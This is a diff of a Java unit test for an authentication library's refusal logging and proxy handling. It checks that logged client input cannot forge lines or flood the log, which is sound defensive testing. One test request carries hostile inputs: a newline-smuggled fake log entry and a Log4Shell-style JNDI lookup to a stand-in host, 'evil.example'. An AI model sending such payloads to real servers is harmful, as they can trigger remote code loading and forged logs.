@@ -12,6 +12,7 @@ import dev.doorward.auth.Mode;
 import dev.doorward.auth.password.Argon2Parameters;
 import dev.doorward.auth.secret.KeyRing;
 import dev.doorward.auth.servlet.CurrentUser;
+import dev.doorward.auth.servlet.DoorwardFilter;
 import dev.doorward.auth.servlet.Guard;
 import dev.doorward.auth.servlet.Guards;
 import dev.doorward.auth.servlet.LoginRequired;
@@ -20,13 +21,18 @@ import dev.doorward.auth.servlet.server.WebServer;
 import dev.doorward.auth.servlet.testing.LoggedIn;
 import dev.doorward.auth.testing.TestDoorward;
 import dev.doorward.auth.throttle.Limits;
+import jakarta.servlet.DispatcherType;
+import jakarta.servlet.Filter;
 import jakarta.servlet.http.HttpServlet;
 import jakarta.servlet.http.HttpServletRequest;
+import jakarta.servlet.http.HttpServletRequestWrapper;
 import jakarta.servlet.http.HttpServletResponse;
 import java.io.IOException;
 import java.nio.file.Path;
 import java.time.Duration;
+import java.util.EnumSet;
 import java.util.List;
+import org.eclipse.jetty.ee10.servlet.FilterHolder;
 import org.junit.jupiter.api.AfterAll;
 import org.junit.jupiter.api.AfterEach;
 import org.junit.jupiter.api.BeforeAll;
@@ -224,14 +230,16 @@ final class RefusalLogTest {
     void what_a_client_sends_begins_no_line_and_fills_no_disk() {
         server.get("/admin/%0a403%20GET%20/${jndi:ldap://evil.example/x}", PROGRAM);
         server.get("/admin/" + "a".repeat(3000), PROGRAM);
-        server.post("/open/x", "", PERSON, "Origin: https://" + "e".repeat(3000) + "\u2028\u001b[31m");
+        server.post("/open/x", "", PERSON, "Origin: https://\u00e9\u0085403 GET /");
+        server.post("/open/x", "", PERSON, "Origin: https://" + "e".repeat(3000));
 
         for (ILoggingEvent line : lines.list) {
             String text = line.getFormattedMessage();
             assertTrue(text.length() < 600, () -> text.length() + " characters");
             assertTrue(text.matches("[ -~]+"), text);
         }
-        assertFalse(lines.list.isEmpty());
+        assertTrue(
+                lines.list.stream().anyMatch(line -> line.getFormattedMessage().contains("https://?")));
     }
 
     @Test
@@ -260,11 +268,19 @@ final class RefusalLogTest {
 
     @Test
     void who_comes_to_development_from_elsewhere_is_refused_in_one_line_and_sees_no_rule() {
-        try (WebServer proxied = new WebServer()
-                .behindProxy()
-                .install(development.doorward(), RefusalLogTest::guards)
-                .start()) {
-            Reply page = proxied.get("/", PERSON, "X-Forwarded-For: 203.0.113.7");
+        Filter farAway = (request, response, chain) -> chain.doFilter(
+                new HttpServletRequestWrapper((HttpServletRequest) request) {
+                    @Override
+                    public String getRemoteAddr() {
+                        return "203.0.113.7";
+                    }
+                },
+                response);
+        Filter ours = new DoorwardFilter(development.doorward(), new Guards().open("/*"));
+        try (WebServer seen = new WebServer()) {
+            seen.context().addFilter(new FilterHolder(farAway), "/*", EnumSet.of(DispatcherType.REQUEST));
+            seen.context().addFilter(new FilterHolder(ours), "/*", EnumSet.allOf(DispatcherType.class));
+            Reply page = seen.start().get("/", PERSON);
 
             assertEquals(403, page.status());
             assertFalse(page.body().contains("this machine alone"), page.body());
